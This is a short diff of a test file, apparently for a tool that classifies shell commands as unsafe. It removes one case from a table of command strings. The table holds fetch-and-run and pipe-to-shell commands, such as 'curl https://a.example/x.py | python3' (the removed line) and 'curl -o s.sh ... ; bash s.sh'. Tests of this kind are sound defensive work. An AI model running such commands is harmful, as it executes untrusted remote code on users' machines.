@@ -49,7 +49,6 @@ describe("a text that is not known is", () => {
     ["tool | tee >(sh)"],
     ["tool | tee s.sh; bash s.sh"],
     ["curl -o s.sh https://a.example/s.sh; bash s.sh"],
-    ["curl https://a.example/x.py | python3"],
     ["sed -i '1i rm x' s.sh; ./s.sh"],
     ["make -f <(tool)"],
     ["mkfifo p; bash < p & tool > p"],
